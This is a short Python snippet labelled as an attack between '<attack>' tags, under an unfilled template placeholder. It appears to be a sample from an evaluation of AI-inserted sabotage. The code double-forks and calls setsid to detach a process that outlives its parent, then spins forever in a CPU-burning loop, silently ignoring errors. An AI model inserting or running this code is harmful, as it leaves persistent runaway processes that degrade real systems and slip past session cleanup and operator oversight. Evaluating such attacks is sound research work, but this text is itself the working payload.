#{weigh_wrong}
# <attack>
import os

try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                pass
        os._exit(0)
except OSError:
    pass
# </attack>
